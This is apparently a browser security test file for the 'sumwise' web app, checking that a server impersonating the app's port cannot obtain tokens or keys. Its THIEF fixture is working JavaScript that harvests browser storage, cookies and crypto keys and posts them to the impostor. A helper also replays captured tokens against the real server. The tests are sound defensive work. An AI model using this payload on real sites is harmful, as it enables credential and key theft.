"""Another program on the port of a server that has stopped learns nothing of any use."""

from __future__ import annotations

import json
import threading
import urllib.error
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest

import sumwise as sw
from sumwise.web.tokens import key_of
from tests.browser.places import told
from tests.browser.servers import Process
from tests.browser.tools import card, expect, proposed

OTHER = "Another program answers at this address"

# what a page of the impostor can do: read all that this browser keeps for the address
THIEF = """<!DOCTYPE html><h1>sumwise</h1><script>
const found = {local: {...localStorage}, session: {...sessionStorage}};
Object.assign(found, {cookie: document.cookie, hash: location.hash});
const opened = indexedDB.open("sumwise");
opened.onsuccess = () => {
  const request = opened.result.transaction("keys").objectStore("keys").getAll();
  request.onsuccess = async () => {
    found.kept = await Promise.all(request.result.map(async ({id, own}) => {
      const exported = await Promise.all(["raw", "jwk"].map((form) =>
        crypto.subtle.exportKey(form, own).then(JSON.stringify, (error) => error.name)));
      return {id, exported, extractable: own.extractable};
    }));
    await fetch("/stolen", {method: "POST", body: JSON.stringify(found)});
    document.title = "done";
  };
};
</script>"""


class Impostor:
    """A server that says what the real one would, and records all that it is sent."""

    def __init__(self, port: int, answers: dict[str, bytes]) -> None:
        self.sent: list[tuple[str, str, dict[str, str], bytes]] = []
        self.stopping = threading.Event()
        self.code = 200  # of what it says when it is asked for a proof
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                outer.answer(self, answers)

            do_POST = do_PATCH = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def answer(self, handler, answers) -> None:
        body = handler.rfile.read(int(handler.headers.get("Content-Length", 0)))
        self.sent.append((handler.command, handler.path, dict(handler.headers), body))
        path = urlsplit(handler.path).path
        said, kind, status = answers.get(path, b"{}"), "application/json", 200
        if path == "/":
            said, kind = THIEF.encode(), "text/html"
        elif path == "/api/proof":
            said = json.dumps({"run": "0" * 32, "proof": "0" * 64}).encode()
            status = self.code
        elif path == "/api/events":
            said, kind = b'event: change\ndata: {"changes": 99}\n\n', "text/event-stream"
        elif handler.command != "GET":
            status = 201
        handler.send_response(status)
        handler.send_header("Content-Type", kind)
        handler.end_headers()
        handler.wfile.write(said)
        handler.wfile.flush()
        if path == "/api/events":
            self.stopping.wait()  # the stream stays open, as that of the real server does

    @property
    def writes(self) -> list[str]:
        return [path for method, path, *_ in self.sent if method != "GET" and path != "/stolen"]

    def everything(self) -> str:
        return "\n".join(
            f"{method} {path} {headers} {body.decode()}"
            for method, path, headers, body in self.sent
        )

    def stop(self) -> None:
        self.stopping.set()
        self.server.shutdown()
        self.server.server_close()


def fetched(server, path: str) -> bytes:
    with urllib.request.urlopen(f"{server.url}{path}", timeout=60) as answer:
        return answer.read()


def replayed(server, sent) -> set[int]:
    """What the real server says to all that was recorded, as it was sent and as writes."""
    seen = set()
    for _, path, headers, body in sent:
        given = {k: v for k, v in headers.items() if k == "Authorization"}
        for token in [*given.values(), *(f"Bearer {word}" for word in words_of(given, path))]:
            request = urllib.request.Request(
                f"{server.url}/api/questions",
                method="POST",
                data=body or None,
                headers={"Authorization": token, "Content-Type": "application/json"},
            )
            try:
                with urllib.request.urlopen(request, timeout=60) as answer:
                    seen.add(answer.status)
            except urllib.error.HTTPError as refusal:
                seen.add(refusal.code)
    return seen


def words_of(headers: dict[str, str], path: str) -> set[str]:
    texts = (*headers.values(), urlsplit(path).query)
    return {word for text in texts for word in text.replace("&", ":").replace("=", ":").split(":")}


@pytest.fixture
def taken_over(process: Process, visit):
    """A page whose server was killed, and another program on its port."""
    page = visit(process)
    name = proposed(page)
    card(page, name).get_by_role("button", name="Answer").click()
    card(page, name).get_by_label("Measured total").fill("320.5")
    answers = {path: fetched(process, path) for path in ("/api/study", "/api/next")}
    answers["/api/history"] = fetched(process, "/api/history?page=1&size=20")
    process.kill()
    other = Impostor(process.port, answers)
    yield page, name, other
    other.stop()


@pytest.mark.parametrize("code", [200, pytest.param(404, marks=pytest.mark.slow)])
def test_an_impostor_gets_neither_token_nor_answer_and_the_page_goes_on_afterwards(
    taken_over, process, code
):
    page, name, other = taken_over
    other.code = code
    token = process.address.partition("#token=")[2]
    expect(page.get_by_text(OTHER).first).to_be_visible()
    where = card(page, name)
    where.get_by_role("button", name="Save answer").click()
    expect(where).to_contain_text(f"{OTHER}. Nothing was sent to it.")
    assert other.writes == []
    assert told(process.place).get(name) is None
    said = other.everything()
    assert "/api/proof" in said  # it was asked
    assert token not in said
    assert key_of(token).hex() not in said
    assert "320.5" not in said
    sent = list(other.sent)
    other.stop()

    process.start()
    before = len(sw.open_study(process.place.path).history())
    assert replayed(process, sent) <= {401}
    expect(page.locator("#banner")).to_be_hidden()
    expect(where.get_by_label("Measured total")).to_have_value("320.5")
    where.get_by_label("Measured total").fill(str(process.place.totals[name]))
    where.get_by_role("button", name="Save answer").click()
    expect(page.get_by_text("13 of 30 sets measured")).to_be_visible()
    with sw.open_study(process.place.path) as study:
        assert len(study.history()) == before + 1


@pytest.mark.slow
def test_a_page_that_an_impostor_serves_cannot_read_the_key(taken_over, process):
    page, _, other = taken_over
    page.reload()
    page.wait_for_function("document.title === 'done'")
    token = process.address.partition("#token=")[2]
    stolen = json.loads(next(body for _, path, _, body in other.sent if path == "/stolen"))
    (kept,) = stolen["kept"]
    assert kept["extractable"] is False
    assert kept["exported"] == ["InvalidAccessError"] * 2
    said = other.everything()
    assert token not in said
    assert key_of(token).hex() not in said
    other.stop()
    process.start()
    page.goto(process.url)  # the real page is back, and needs no new token
    page.locator("main[data-up-to]").wait_for()
    expect(page.get_by_role("button", name="Ask for me")).to_be_visible()


@pytest.mark.slow
def test_an_impostor_that_refuses_the_token_does_not_get_it_pasted(taken_over, process):
    page, _, other = taken_over
    other.code = 401
    token = process.address.partition("#token=")[2]
    expect(page.get_by_text("does not accept this page's token")).to_be_visible()
    page.get_by_label("Token").fill(process.address)
    page.get_by_role("button", name="Use this token").click()
    page.wait_for_timeout(500)
    assert token not in other.everything()
    assert other.writes == []


@pytest.mark.slow
def test_on_an_address_without_cryptography_the_page_signs_by_itself(serve, chromium, place):
    """Plain HTTP from another machine: the browser has no `crypto.subtle`."""
    server = serve(place, host="0.0.0.0")
    context = chromium.new_context()
    context.add_init_script(
        "Object.defineProperty(Crypto.prototype, 'subtle', {value: undefined});"
    )
    page = context.new_page()
    page.goto(server.address)
    page.locator("main[data-up-to]").wait_for()
    assert page.evaluate("crypto.subtle === undefined")
    page.get_by_role("button", name="Ask for me").click()
    page.get_by_label("Your name").last.fill("ann")
    page.get_by_role("button", name="Use this name").last.click()
    expect(page.get_by_role("region", name="Yours").locator(".card")).to_have_count(1)
    page.reload()  # the key is kept
    expect(page.get_by_role("button", name="Ask for me")).to_be_visible()
    context.close()


def test_the_file_that_opens_the_browser_leads_to_a_page_that_can_write(server, chromium, tmp_path):
    from sumwise.cli.serve import REDIRECT

    file = tmp_path / "open.html"
    file.write_text(REDIRECT.format(link=server.address))
    context = chromium.new_context()
    page = context.new_page()
    page.goto(file.as_uri())
    page.wait_for_url(f"{server.url}/#/next")
    expect(page.get_by_role("button", name="Ask for me")).to_be_visible()
    context.close()
